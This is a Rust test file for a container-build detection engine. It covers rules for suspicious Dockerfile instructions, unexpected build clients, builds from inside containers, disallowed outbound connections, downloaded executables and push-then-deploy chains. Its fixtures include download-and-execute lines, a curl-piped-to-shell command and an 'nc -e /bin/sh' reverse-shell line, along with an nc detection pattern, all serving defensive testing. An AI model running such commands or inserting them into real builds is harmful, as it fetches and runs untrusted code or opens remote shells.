//! The rules over hand-made records and a policy per test.
use std::path::Path;
use std::sync::{Arc, Mutex};

use super::*;
use crate::detect::policy::Policy;
use crate::detect::testutil::*;
use crate::lineage::store::{ImageLineage, LineageStore, PushSeen};

fn engine(policy: &str) -> (FindingsEngine, SharedLineage) {
    let p = Policy::parse(policy, Path::new("t.toml")).unwrap();
    let store = Arc::new(Mutex::new(LineageStore::in_memory(100, 30)));
    (
        FindingsEngine::new(PolicyHandle::new(p), store.clone()),
        store,
    )
}

fn findings(out: &[Body]) -> Vec<&Finding> {
    out.iter()
        .filter_map(|b| {
            if let Body::Finding(f) = b {
                Some(f)
            } else {
                None
            }
        })
        .collect()
}

fn dockerfile(id: &str, text: &str) -> Body {
    Body::BuildDockerfile(crate::output::record::BuildDockerfile {
        build_id: id.into(),
        path: "/Dockerfile".into(),
        source: "daemon_write".into(),
        text: text.into(),
        sha256: None,
        size: text.len() as u64,
        truncated: false,
        instructions: crate::builds::dockerfile::parse_instructions(text),
        record_ids: vec![3],
    })
}

#[test]
fn suspicious_instructions_fire_with_their_lines_and_a_plain_dockerfile_is_quiet() {
    let (mut e, _) = engine("");
    let mut out = Vec::new();
    let text = "FROM b\nRUN wget -q -O /x http://10.0.0.1:8080/p && chmod +x /x\nRUN curl -fsSL https://get.example | sh\nADD https://example.org/t.tgz /t\n";
    e.observe(&rec(5, 1, dockerfile("B1", text)), &mut out);
    let f = findings(&out);
    assert_eq!(f.len(), 1, "{out:?}");
    assert_eq!(f[0].rule, "build_suspicious_instruction");
    assert_eq!(f[0].severity, "high");
    let m = f[0].details["matches"].as_array().unwrap();
    let names: Vec<(&str, u64)> = m
        .iter()
        .map(|m| (m["pattern"].as_str().unwrap(), m["line"].as_u64().unwrap()))
        .collect();
    assert_eq!(
        names,
        [
            ("download_from_ip_address", 2),
            ("download_piped_to_shell", 3),
            ("add_from_url", 4)
        ]
    );
    assert_eq!(f[0].evidence.record_ids, vec![3, 5]);
    out.clear();
    e.observe(
        &rec(
            6,
            1,
            dockerfile("B2", "FROM b\nRUN apk add curl\nCOPY . /src\n"),
        ),
        &mut out,
    );
    assert!(out.is_empty(), "{out:?}");
    // A policy pattern of the user's own, and a bad one is an error with its line.
    let (mut e, _) = engine(
        "[rules.build_suspicious_instruction]\npatterns = [{ name = \"nc\", instructions = [\"RUN\"], match = \"\\\\bnc\\\\b\" }]\n",
    );
    e.observe(
        &rec(7, 1, dockerfile("B3", "FROM b\nRUN nc -e /bin/sh h 1\n")),
        &mut out,
    );
    assert_eq!(findings(&out)[0].details["matches"][0]["pattern"], "nc");
    let err = Policy::parse(
        "[rules.build_suspicious_instruction]\npatterns = [{ name = \"x\", match = \"(\" }]\n",
        Path::new("p.toml"),
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("invalid regular expression"), "{err}");
    assert!(err.contains("line 2"), "{err}");
    assert!(err.contains("unclosed group"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

const BUILDERS: &str = "[builders]\nusers = [\"ci\"]\nexes = [\"/usr/bin/gitlab-runner\"]\naddresses = [\"10.0.0.0/8\"]\n";

#[test]
fn unexpected_client_fires_and_allowed_is_quiet() {
    let (mut e, _) = engine(BUILDERS);
    let mut out = Vec::new();
    e.observe(&rec(5, 1, build_started("B1", unix_client(1000))), &mut out);
    let f = findings(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "build_from_unexpected_client");
    assert_eq!(f[0].attack, vec!["T1612"]);
    assert_eq!(f[0].analytics, vec!["AN1261"]);
    assert_eq!(f[0].build_id.as_deref(), Some("B1"));
    assert!(f[0].summary.contains("/usr/bin/curl"), "{}", f[0].summary);
    assert_eq!(f[0].evidence.record_ids, vec![1, 5]);

    let mut ci = unix_client(1000);
    ci.user = Some("ci".into());
    out.clear();
    e.observe(&rec(6, 1, build_started("B2", ci)), &mut out);
    assert!(out.is_empty(), "{out:?}");
    // No allow-list configured: the rule stays quiet.
    let (mut e, _) = engine("");
    e.observe(&rec(7, 1, build_started("B3", unix_client(1000))), &mut out);
    assert!(out.is_empty());
}

#[test]
fn clients_inside_containers_build_and_start() {
    let (mut e, _) = engine("");
    let mut inside = unix_client(0);
    inside.exe = Some("/usr/bin/docker".into());
    inside.container_id = Some("c".repeat(64));
    inside.container_name = Some("pwned".into());
    inside.container_image = Some("web:1".into());
    let mut out = Vec::new();
    e.observe(&rec(5, 1, build_started("B1", inside.clone())), &mut out);
    let f = findings(&out);
    assert_eq!(f.len(), 1, "{out:?}");
    assert_eq!(f[0].rule, "build_from_container");
    assert_eq!(f[0].severity, "high");
    assert_eq!(
        (f[0].attack.clone(), f[0].analytics.clone()),
        (vec!["T1612".to_string()], vec!["AN1261".to_string()])
    );
    assert_eq!(f[0].container_id.as_deref(), Some("c".repeat(64).as_str()));
    assert!(
        f[0].summary
            .contains("inside container pwned (image web:1)"),
        "{}",
        f[0].summary
    );

    out.clear();
    let Body::ContainerStart(mut start) = container_start("d1", "sha256:x", None, None) else {
        unreachable!()
    };
    start.client = inside;
    e.observe(&rec(6, 2, Body::ContainerStart(start)), &mut out);
    let f = findings(&out);
    assert_eq!(f.len(), 1, "{out:?}");
    assert_eq!(f[0].rule, "container_start_from_container");
    assert_eq!(f[0].attack, vec!["T1610"]);
    assert_eq!(f[0].container_id.as_deref(), Some("d1"));

    // Host clients: neither rule.
    out.clear();
    e.observe(&rec(7, 3, build_started("B2", unix_client(0))), &mut out);
    e.observe(
        &rec(8, 4, container_start("d2", "sha256:x", None, None)),
        &mut out,
    );
    assert!(findings(&out).is_empty(), "{out:?}");
    // Disabled by policy.
    let (mut e, _) = engine("[rules.build_from_container]\nenabled = false\n");
    let mut c = unix_client(0);
    c.container_id = Some("c".repeat(64));
    e.observe(&rec(9, 5, build_started("B3", c)), &mut out);
    assert!(findings(&out).is_empty(), "{out:?}");
}

#[test]
fn unexplained_image_start_fires_and_others_are_quiet() {
    let (mut e, _) = engine("");
    let mut out = Vec::new();
    for (i, origin) in [
        Some("unexplained"),
        Some("registry"),
        Some("built_here"),
        None,
    ]
    .into_iter()
    .enumerate()
    {
        let Body::ContainerStart(mut c) = container_start("d1", "sha256:x", None, None) else {
            unreachable!()
        };
        c.image_origin = origin.map(str::to_string);
        e.observe(&rec(10 + i as u64, 1, Body::ContainerStart(c)), &mut out);
    }
    let f = findings(&out);
    assert_eq!(f.len(), 1, "{out:?}");
    assert_eq!(f[0].rule, "container_from_unexplained_image");
    assert_eq!(f[0].severity, "medium");
    assert_eq!(f[0].attack, vec!["T1612", "T1610"]);
    assert_eq!(f[0].evidence.record_ids, vec![10]);
}

#[test]
fn tcp_api_fires_with_remote_address_and_loopback_is_quiet() {
    let (mut e, _) = engine("[rules.build_via_tcp_api]\nallowed_addresses = [\"192.0.2.0/28\"]\n");
    let mut out = Vec::new();
    e.observe(
        &rec(5, 1, build_started("B1", tcp_client("198.51.100.7"))),
        &mut out,
    );
    let f = findings(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "build_via_tcp_api");
    assert_eq!(f[0].severity, "high");
    assert_eq!(f[0].details["remote_addr"], "198.51.100.7");
    assert!(f[0].summary.contains("198.51.100.7"));
    out.clear();
    e.observe(
        &rec(6, 1, build_started("B2", tcp_client("127.0.0.1"))),
        &mut out,
    );
    e.observe(
        &rec(7, 1, build_started("B3", tcp_client("192.0.2.3"))),
        &mut out,
    );
    e.observe(&rec(8, 1, build_started("B4", unix_client(0))), &mut out);
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn outbound_not_allowed_names_destination_and_allowed_is_quiet() {
    let (mut e, _) =
        engine("[outbound]\nallowed = [\"10.0.0.1\"]\ndenied = [\"203.0.113.0/24\"]\n");
    let mut out = Vec::new();
    e.observe(
        &rec(
            9,
            5,
            build_finished(
                "B1",
                Some("sha256:i"),
                &[("10.0.0.1", 443, "allowed"), ("192.0.2.9", 8080, "unknown")],
            ),
        ),
        &mut out,
    );
    let f = findings(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "build_outbound_not_allowed");
    assert_eq!(f[0].severity, "medium");
    assert!(f[0].summary.contains("192.0.2.9:8080"), "{}", f[0].summary);
    assert_eq!(f[0].details["destinations"][0]["addr"], "192.0.2.9");
    assert_eq!(f[0].details["destinations"].as_array().unwrap().len(), 1);
    out.clear();
    // Denied is stronger; a record without a class is classified again.
    e.observe(
        &rec(
            10,
            5,
            build_finished("B2", None, &[("203.0.113.5", 80, "")]),
        ),
        &mut out,
    );
    assert_eq!(findings(&out)[0].severity, "high");
    out.clear();
    e.observe(
        &rec(
            11,
            5,
            build_finished("B3", None, &[("10.0.0.1", 443, "allowed")]),
        ),
        &mut out,
    );
    assert!(out.is_empty());
    // include_unknown = false: only denied fires.
    let (mut e, _) = engine("[rules.build_outbound_not_allowed]\ninclude_unknown = false\n");
    e.observe(
        &rec(
            12,
            5,
            build_finished("B4", None, &[("192.0.2.9", 8080, "unknown")]),
        ),
        &mut out,
    );
    assert!(out.is_empty());
}

fn lineage(store: &SharedLineage, image: &str, build: &str, at: i64, bad: &[&str]) {
    store.lock().unwrap().insert(
        ImageLineage {
            image_id: image.into(),
            build_id: build.into(),
            built_at: ts(at),
            tags: vec!["app:1".into()],
            digests: vec![],
            pushes: vec![],
            outbound_not_allowed: bad.iter().map(|s| s.to_string()).collect(),
            record_id: 3,
        },
        ts(at),
    );
}

#[test]
fn deploy_soon_after_build_window_and_severity() {
    let (mut e, store) = engine("[rules.deploy_soon_after_build]\nwindow_secs = 60\n");
    lineage(&store, "sha256:a", "B1", 0, &[]);
    lineage(&store, "sha256:b", "B2", 0, &["192.0.2.9:8080 unknown"]);
    let mut out = Vec::new();
    e.observe(
        &rec(
            20,
            30,
            container_start("c1", "sha256:a", Some("B1"), Some(30)),
        ),
        &mut out,
    );
    e.observe(
        &rec(
            21,
            30,
            container_start("c2", "sha256:b", Some("B2"), Some(30)),
        ),
        &mut out,
    );
    let f = findings(&out);
    assert_eq!(f.len(), 2);
    assert_eq!(
        (f[0].rule.as_str(), f[0].severity.as_str()),
        ("deploy_soon_after_build", "medium")
    );
    assert_eq!(f[1].severity, "high");
    assert!(f[1].summary.contains("192.0.2.9:8080"));
    assert_eq!(f[0].attack, vec!["T1612", "T1610"]);
    assert_eq!(f[0].container_id.as_deref(), Some("c1"));
    assert_eq!(f[0].evidence.record_ids, vec![3, 20]);
    out.clear();
    // Outside the window, or an image not built here: quiet.
    e.observe(
        &rec(
            22,
            300,
            container_start("c3", "sha256:a", Some("B1"), Some(300)),
        ),
        &mut out,
    );
    e.observe(
        &rec(23, 30, container_start("c4", "sha256:zz", None, None)),
        &mut out,
    );
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn downloaded_executable_fires_on_outside_source_only() {
    use crate::output::record::{FetchSource, ImageFile, ImageLayer, StepConnection};
    let (mut e, _) = engine("");
    let file = |path: &str, policy: &str| ImageFile {
        path: path.into(),
        op: "added".into(),
        file_type: "file".into(),
        mode: "0755".into(),
        executable: true,
        sha256: Some("ab".repeat(32)),
        outside_policy: policy != "allowed",
        fetched_from: Some(FetchSource {
            url: format!("http://h/{path}"),
            dst_addr: "10.0.0.2".into(),
            dst_port: 80,
            policy: policy.into(),
            ..Default::default()
        }),
        ..Default::default()
    };
    let contents = |files: Vec<ImageFile>| ImageContents {
        build_id: "b-1".into(),
        image_id: "sha256:x".into(),
        layers: vec![ImageLayer {
            step: Some(1),
            connections: vec![StepConnection {
                dst_addr: "10.0.0.2".into(),
                dst_port: 80,
                protocol: "tcp".into(),
                policy: "unknown".into(),
                ..Default::default()
            }],
            files,
            ..Default::default()
        }],
        ..Default::default()
    };
    let mut out = Vec::new();
    e.observe(
        &rec(
            5,
            1,
            Body::ImageContents(contents(vec![file("/x", "unknown")])),
        ),
        &mut out,
    );
    let f = findings(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "build_downloaded_executable");
    assert_eq!(f[0].severity, "high");
    assert!(f[0].summary.contains("/x") && f[0].summary.contains("http://h//x"));
    assert_eq!(f[0].details["files"][0]["certain"], true);

    let mut out = Vec::new();
    e.observe(
        &rec(
            6,
            1,
            Body::ImageContents(contents(vec![file("/ok", "allowed")])),
        ),
        &mut out,
    );
    assert!(findings(&out).is_empty(), "allowed source");
    let mut not_exec = file("/data", "unknown");
    not_exec.executable = false;
    let mut out = Vec::new();
    e.observe(
        &rec(7, 1, Body::ImageContents(contents(vec![not_exec]))),
        &mut out,
    );
    assert!(findings(&out).is_empty(), "not executable");
}

#[test]
fn push_then_start_is_the_an0946_chain() {
    let (mut e, store) = engine("[rules.deploy_soon_after_build]\nenabled = false\n");
    lineage(&store, "sha256:a", "B1", 0, &[]);
    lineage(&store, "sha256:b", "B2", 0, &[]);
    let push = PushSeen {
        reference: "localhost:5000/app:1".into(),
        digest: Some("sha256:d".into()),
        at: ts(50),
        record_id: 8,
    };
    store.lock().unwrap().add_push("sha256:a", push);
    let mut out = Vec::new();
    e.observe(
        &rec(
            30,
            100,
            container_start("c1", "sha256:a", Some("B1"), Some(100)),
        ),
        &mut out,
    );
    let f = findings(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "build_push_deploy_chain");
    assert_eq!(f[0].analytics, vec!["AN0946"]);
    assert_eq!(f[0].details["registry"], "localhost:5000");
    assert_eq!(f[0].evidence.record_ids, vec![3, 8, 30]);
    out.clear();
    // Built and started but never pushed; or started before the push: quiet.
    e.observe(
        &rec(
            31,
            100,
            container_start("c2", "sha256:b", Some("B2"), Some(100)),
        ),
        &mut out,
    );
    e.observe(
        &rec(
            32,
            40,
            container_start("c3", "sha256:a", Some("B1"), Some(40)),
        ),
        &mut out,
    );
    assert!(out.is_empty(), "{out:?}");
}
